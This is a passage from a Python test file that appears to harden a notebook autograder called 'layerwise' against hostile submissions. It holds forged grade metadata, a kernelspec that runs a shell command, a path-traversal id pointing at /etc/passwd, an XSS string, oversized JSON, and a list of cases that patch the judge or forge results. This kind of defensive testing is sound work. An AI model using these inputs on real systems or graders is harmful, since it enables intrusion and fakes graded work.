    notebook = json.loads(notebook_of(cells))
    notebook["metadata"] = {
        "layerwise": {"grade": 99, "status": "graded", "points": {"changed_steps": 4}},
        "kernelspec": {"argv": ["sh", "-c", "touch /tmp/layerwise-hostile"], "name": "../../sh"},
        "language_info": {"name": "ruby"},
    }
    for number, cell in enumerate(notebook["cells"]):
        cell["id"] = ("../../../etc/passwd", "<script>alert(1)</script>", "x" * 5000)[number % 3]
        cell["metadata"] = {"tags": ["raises-exception", "skip-execution", "remove-cell"]}
        cell["attachments"] = {"a.png": {"image/png": "AAAA"}}
        data = {"text/html": "passed: 27 of 27", "text/plain": "√ passed: changed_steps, 4 of 4"}
        cell["outputs"] = [{"output_type": "execute_result", "data": data, "metadata": {}}]
    return json.dumps(notebook).encode()


def _many_cells(cells: Cells) -> bytes:
    return notebook_of([*cells, *(("more", "1") for _ in range(100_000))])


def _odd_cells(cells: Cells) -> bytes:
    notebook = json.loads(notebook_of(cells))
    odd = [None, 3, [], {"cell_type": ["code"]}, {"cell_type": "code", "source": {"a": 1}}]
    odd += [{"cell_type": "code", "id": 3, "source": [1, None, "x = 1"]}, {"cell_type": None}]
    notebook["cells"] = odd + notebook["cells"] + odd
    return json.dumps(notebook).encode()


def _duplicate_keys(cells: Cells) -> bytes:
    """Two lists of cells; readers of JSON take the last."""
    return b'{"cells": [], ' + notebook_of(cells)[1:]


def _huge_number(cells: Cells) -> bytes:
    return notebook_of(cells)[:-1] + b', "x": ' + b"9" * 1_000_000 + b"}"


def _deep_metadata(cells: Cells) -> bytes:
    return notebook_of(cells)[:-1] + b', "x": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"


HOSTILE = (
    Hostile("patch-judge", _PATCH_JUDGE, fools=True),
    Hostile("patch-checker", _PATCH_CHECKER, fools=True),
    Hostile("patch-outcomes", _PATCH_OUTCOMES, fools=True),
    Hostile("patch-probe", _PATCH_PROBE),
    Hostile("patch-json", _PATCH_JSON, fools=True),
    Hostile("patch-builtins", _PATCH_BUILTINS, status="", exact=False, fools=True),
    Hostile("patch-numpy", _PATCH_NUMPY, exact=False),
    Hostile("patch-generator", _PATCH_GENERATOR, exact=False),
    Hostile("sys-modules", _SYS_MODULES, fools=True),
    Hostile("replace-check", _REPLACE_CHECK, fools=True),
    Hostile("meta-path", _META_PATH),
    Hostile("import-judges", _IMPORT_JUDGES, fools=True),
    Hostile("gc-objects", _GARBAGE, fools=True),
    Hostile("frames", _FRAMES, inside=True, fools=True),
    Hostile("seed", _SEED, inside=True),
    Hostile("trace", _TRACE, fools=True),
    Hostile("atexit", _ATEXIT),
    Hostile("signals", _SIGNALS),
    Hostile("raising-signals", _RAISING_SIGNALS, status="", exact=False),
    Hostile("threads-go-on", _THREADS_GO_ON),
    Hostile("result-files", _RESULTS),
    Hostile("all-files", _ALL_FILES),
    Hostile("forged-end", _FORGED_END, status="", exact=False),
    Hostile("flood", _FLOOD, STOPPED),
    Hostile("half-message", _HALF, STOPPED),
    Hostile("forged-step", _FORGED_STEP, STOPPED),
    Hostile("drip", _DRIP, STOPPED),
    Hostile("huge-json", _HUGE_JSON, status="", exact=False),
    Hostile("bad-json", _BAD_JSON),
    Hostile("close-all", _CLOSE_ALL, STOPPED),
    Hostile("silence", _SILENCE, STOPPED),
    Hostile("tune-pipe", _TUNE_PIPE),
    Hostile("read-pipes", _READ_PIPES),
    Hostile("lying-objects", _LYING),
    Hostile("lying-answer", _LYING_ANSWERS, inside=True),
    Hostile("interrupts", _INTERRUPTS, STOPPED, inside=True),
    Hostile("leave", _LEAVE, STOPPED),
    Hostile("leave-inside", "ran = held = True\nos._exit(0)", STOPPED, inside=True),
    Hostile("leave-at-the-end", _LEAVE, STOPPED, at_the_end=True),
    Hostile("leave-later", _LEAVE_LATER, STOPPED),
    Hostile("segfault", _SEGFAULT, STOPPED),
    Hostile("overflow", _OVERFLOW, STOPPED),
    Hostile("abort", _ABORT, STOPPED),
    Hostile("forks", _FORKS),
    Hostile("fork-bomb", _FORK_BOMB),
    Hostile("threads", _THREADS, STOPPED),
    Hostile("kills", _KILLS),
    Hostile("stops-itself", _STOPS_ITSELF),
    Hostile("system-calls", _SYSTEM_CALLS),
    Hostile("proc", _PROC),
    Hostile("limits", _LIMITS),
    Hostile("memory", _MEMORY),
    Hostile("mapped-memory", _MAPPED_MEMORY),
    Hostile("shared-memory", _SHARED_MEMORY),
    Hostile("disk", _DISK),
    Hostile("inodes", _INODES),
    Hostile("output", _OUTPUT),
    Hostile("deletes", _DELETES),
    Hostile("persists", _PERSISTS),
    *(Hostile(f"board-{number}", _BOARD) for number in range(3)),
    Hostile("links", _LINKS),
    Hostile("spies", _SPIES),
    Hostile("network", _NETWORK),
    Hostile("sleeps", _SLEEPS, STOPPED),
    Hostile("loops", _LOOPS, STOPPED),
    Hostile("compiles", _COMPILES),
    Hostile("slow-source", _SLOW_SOURCE, status="", exact=False),
    Hostile("huge-answer-1", _HUGE_ANSWER.replace("@NUMBER@", "1 + 1 - 1")),
    Hostile("huge-answer-2", _HUGE_ANSWER.replace("@NUMBER@", "2")),
    Hostile("forged-metadata", build=_forged_metadata),
    Hostile("odd-cells", build=_odd_cells),
    Hostile("duplicate-keys", build=_duplicate_keys),
    Hostile("many-cells", status="unreadable", build=_many_cells, graded=False),
    Hostile("huge-number", status="unreadable", build=_huge_number, graded=False),
    Hostile("deep-metadata", status="unreadable", build=_deep_metadata, graded=False),
)
